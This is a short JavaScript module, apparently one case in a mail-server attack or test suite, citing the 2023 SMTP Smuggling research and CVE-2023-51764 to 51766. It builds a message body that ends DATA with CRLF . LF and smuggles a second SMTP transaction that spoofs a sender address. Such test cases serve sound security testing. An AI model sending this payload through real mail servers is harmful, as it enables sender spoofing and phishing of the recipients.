import { data } from '../attack.mjs';

/** Ends DATA with CRLF . LF, so that another mail behind it is taken for one of its own. Source: SEC Consult, SMTP Smuggling, 2023; CVE-2023-51764 to 51766. */
export default data({
  sent: 1,
  content: ({ to }) =>
    `Subject: x\r\n\r\nfirst\r\n.\nMAIL FROM:<boss@example.org>\r\nRCPT TO:<${to}>\r\nDATA\r\nFrom: boss@example.org\r\n\r\nsecond`,
});
